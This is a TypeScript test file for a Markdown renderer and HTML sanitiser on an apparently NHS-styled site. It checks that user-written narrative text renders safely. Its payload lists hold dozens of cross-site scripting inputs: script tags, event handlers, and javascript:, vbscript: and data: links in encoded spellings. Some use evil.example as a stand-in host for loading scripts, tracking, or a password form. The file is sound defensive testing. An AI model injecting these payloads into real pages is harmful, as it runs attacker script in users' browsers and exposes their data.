import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { renderMarkdown, sanitizeNarrativeHtml } from './markdown.ts';

/** The tags and attributes that are live in `html` (text that merely looks like a tag is escaped, so not matched). */
function liveTags(html: string): { name: string; attributes: Record<string, string> }[] {
  return [...html.matchAll(/<([a-zA-Z][a-zA-Z0-9]*)\b([^>]*)>/g)].map((match) => ({
    name: match[1].toLowerCase(),
    attributes: Object.fromEntries(
      [...match[2].matchAll(/([^\s=/]+)(?:\s*=\s*(?:"([^"]*)"|'([^']*)'|([^\s>]+)))?/g)].map((attribute) => [
        attribute[1].toLowerCase(),
        attribute[2] ?? attribute[3] ?? attribute[4] ?? '',
      ]),
    ),
  }));
}

function decodeEntities(text: string): string {
  return text
    .replace(/&#x([0-9a-f]+);?/gi, (_all, hex: string) => String.fromCodePoint(Number.parseInt(hex, 16)))
    .replace(/&#(\d+);?/g, (_all, decimal: string) => String.fromCodePoint(Number(decimal)))
    .replace(/&colon;/gi, ':')
    .replace(/&tab;/gi, '\t')
    .replace(/&newline;/gi, '\n')
    .replace(/&amp;/g, '&');
}

const forbiddenTags = [
  'script',
  'img',
  'iframe',
  'object',
  'embed',
  'svg',
  'math',
  'audio',
  'video',
  'source',
  'link',
  'meta',
  'form',
  'input',
  'button',
  'style',
  'base',
  'div',
  'span',
];

/** Fails unless nothing in `html` can run script, style the page, load a resource or link off the allow-list. */
function assertInert(html: string, payload: string) {
  for (const tag of liveTags(html)) {
    assert.ok(!forbiddenTags.includes(tag.name), `a live <${tag.name}> from ${payload}: ${html}`);
    for (const [name, value] of Object.entries(tag.attributes)) {
      assert.ok(!name.startsWith('on'), `an event handler ${name} from ${payload}: ${html}`);
      assert.ok(
        !['style', 'src', 'srcset', 'action', 'formaction', 'xlink:href', 'background'].includes(name),
        `attribute ${name} from ${payload}`,
      );
      if (name === 'href') {
        // What a browser would see: entities decoded, control characters and spaces dropped.
        // biome-ignore lint/suspicious/noControlCharactersInRegex: stripping control characters is the point
        const seen = decodeEntities(value).replace(/[\u0000-\u0020]/g, '');
        const scheme = /^([a-z][a-z0-9+.-]*):/i.exec(seen)?.[1]?.toLowerCase();
        assert.ok(
          scheme === undefined || ['http', 'https', 'mailto'].includes(scheme),
          `href with scheme ${scheme} from ${payload}: ${html}`,
        );
        assert.ok(!seen.startsWith('//'), `a protocol-relative link from ${payload}`);
      }
    }
  }
}

const hostileMarkdown = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)">',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x]( javascript:alert(1) )',
  '[x](<javascript:alert(1)>)',
  '[x](&#106;avascript:alert(1))',
  '[x](&#x6A;avascript&#x3A;alert(1))',
  '[x](&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1))',
  '[x](javas&#99;ript:alert(1))',
  '[x](vbscript:msgbox(1))',
  '[x](VBScript:msgbox(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](DATA:text/html,<script>alert(1)</script>)',
  '[x](//evil.example/steal)',
  '[x](file:///etc/passwd)',
  '<javascript:alert(1)>',
  '<data:text/html,<script>alert(1)</script>>',
  '[ref]\n\n[ref]: javascript:alert(1)',
  '![x](https://evil.example/tracker.png)',
  '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
  '![x" onerror="alert(1)](https://evil.example/a.png)',
  '<svg onload=alert(1)><circle r="40"/></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<div>\n<iframe src="https://evil.example"></iframe>\n</div>',
  '<object data="https://evil.example/x.swf"></object><embed src="x">',
  '<audio src="https://evil.example/a.mp3"></audio><video><source src="x"></video>',
  '<link rel="stylesheet" href="https://evil.example/x.css"><meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<form action="https://evil.example"><input name="password"><button>Go</button></form>',
  '<p style="background:url(https://evil.example/x)">styled</p>',
  '<a href="javascript:alert(1)">raw link</a>',
  '<details open ontoggle=alert(1)>',
  '[click](https://example.org "title\\" onmouseover=\\"alert(1)")',
  '`<script>alert(1)</script>`',
  '```html\n<script>alert(1)</script>\n```',
  '    <img src=x onerror=alert(1)>',
  '> <img src=x onerror=alert(1)>',
  '* [x](javascript:alert(1))',
  '| a |\n|---|\n| <img src=x onerror=alert(1)> |',
];

const hostileHtml = [
  '<script>alert(1)</script><p>ok</p>',
  '<img src=x onerror=alert(1)>',
  '<p onclick="alert(1)">text</p>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x</a>',
  '<a href="java&#x09;script:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="https://ok.example" onmouseover="alert(1)" target="_blank" style="color:red">x</a>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<iframe src="https://evil.example"></iframe>',
  '<object data="x"></object><embed src="x"><audio src="x"></audio><video src="x"></video>',
  '<link rel="stylesheet" href="x"><meta http-equiv="refresh" content="0"><base href="https://evil.example/">',
  '<form action="https://evil.example"><input><button formaction="x">b</button></form>',
  '<style>body{display:none}</style><p>text</p>',
  '<table background="https://evil.example/x.png"><tr><td>x</td></tr></table>',
  '<h1 class="nhsuk-u-visually-hidden evil">heading</h1>',
];

describe('narrative Markdown', () => {
  it('renders the Markdown writers use', () => {
    const html = renderMarkdown(
      [
        '# What the chart shows',
        '',
        'Waits **fell** in *March*; see [the board paper](https://example.nhs.uk/board.pdf).',
        '',
        '- one',
        '- two',
        '',
        '3. third',
        '4. fourth',
        '',
        '> quoted',
        '',
        '| Month | Value |',
        '|---|---|',
        '| March | 71% |',
      ].join('\n'),
    );
    assert.match(html, /<h3>What the chart shows<\/h3>/);
    assert.match(html, /<strong>fell<\/strong>/);
    assert.match(html, /<em>March<\/em>/);
    assert.match(
      html,
      /<a href="https:\/\/example\.nhs\.uk\/board\.pdf" rel="nofollow noopener noreferrer">the board paper<\/a>/,
    );
    assert.match(html, /<ul class="nhsuk-list nhsuk-list--bullet">\s*<li>one<\/li>/);
    assert.match(html, /<ol class="nhsuk-list nhsuk-list--number" start="3">/);
    assert.match(html, /<blockquote>\s*<p>quoted<\/p>/);
    assert.match(html, /<table class="nhsuk-table">/);
    assert.match(html, /<td>71%<\/td>/);
  });

  it('keeps headings below the page headings', () => {
    assert.equal(renderMarkdown('# One'), '<h3>One</h3>');
    assert.equal(renderMarkdown('## Two'), '<h4>Two</h4>');
    assert.equal(renderMarkdown('###### Six'), '<h6>Six</h6>');
  });

  it('allows http, https, mailto and relative links, each with rel="nofollow noopener noreferrer"', () => {
    const html = renderMarkdown(
      '[a](http://a.example) [b](https://b.example) [c](mailto:c@example.nhs.uk) [d](/organisations/RYY) [e](#narratives) https://f.example',
    );
    const hrefs = liveTags(html)
      .filter((tag) => tag.name === 'a')
      .map((tag) => [tag.attributes.href, tag.attributes.rel]);
    assert.deepEqual(hrefs, [
      ['http://a.example', 'nofollow noopener noreferrer'],
      ['https://b.example', 'nofollow noopener noreferrer'],
      ['mailto:c@example.nhs.uk', 'nofollow noopener noreferrer'],
      ['/organisations/RYY', 'nofollow noopener noreferrer'],
      ['#narratives', 'nofollow noopener noreferrer'],
      ['https://f.example', 'nofollow noopener noreferrer'],
    ]);
  });

  it('shows an image as its alternative text and loads nothing', () => {
    const html = renderMarkdown('![Our new triage room](https://example.nhs.uk/room.jpg)');
    assert.equal(html, '<p>Our new triage room</p>');
  });

  it('shows raw HTML as text, never as markup', () => {
    assert.equal(renderMarkdown('<b>bold?</b>'), '<p>&lt;b&gt;bold?&lt;/b&gt;</p>');
    assert.equal(renderMarkdown('<script>alert(1)</script>'), '<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>');
  });

  for (const payload of hostileMarkdown)
    it(`renders ${JSON.stringify(payload).slice(0, 70)} inert`, () => {
      assertInert(renderMarkdown(payload), payload);
    });

  it('does not turn javascript:, vbscript: or data: destinations into links in any spelling', () => {
    for (const payload of hostileMarkdown.filter((each) => /script|data/i.test(each))) {
      for (const tag of liveTags(renderMarkdown(payload)).filter((each) => each.name === 'a'))
        assert.ok(
          tag.attributes.href === undefined || /^(https?:|mailto:|\/[^/]|#)/.test(tag.attributes.href),
          `${payload} gave href ${tag.attributes.href}`,
        );
    }
  });
});

describe('narrative HTML sanitiser', () => {
  for (const payload of hostileHtml)
    it(`makes ${JSON.stringify(payload).slice(0, 70)} inert`, () => {
      assertInert(sanitizeNarrativeHtml(payload), payload);
    });

  it('keeps the text and safe markup around what it removes', () => {
    assert.equal(sanitizeNarrativeHtml('<script>alert(1)</script><p>ok</p>'), '<p>ok</p>');
    assert.equal(
      sanitizeNarrativeHtml('<a href="https://ok.example" onmouseover="alert(1)" style="color:red">x</a>'),
      '<a href="https://ok.example" rel="nofollow noopener noreferrer">x</a>',
    );
    assert.equal(sanitizeNarrativeHtml('<h1 class="evil">heading</h1>'), '<h3>heading</h3>');
    assert.equal(
      sanitizeNarrativeHtml('<a href="javascript:alert(1)">x</a>'),
      '<a rel="nofollow noopener noreferrer">x</a>',
    );
  });

  it('the checker itself catches live markup', () => {
    assert.throws(() => assertInert('<img src="x">', 'img'));
    assert.throws(() => assertInert('<p onclick="x">', 'onclick'));
    assert.throws(() => assertInert('<a href="&#106;avascript:alert(1)">', 'encoded'));
    assert.throws(() => assertInert('<a href="java\tscript:alert(1)">', 'tab'));
    assert.throws(() => assertInert('<a href="//evil.example">', 'protocol-relative'));
    assertInert('<p>&lt;img src=x onerror=alert(1)&gt;</p>', 'escaped');
  });
});
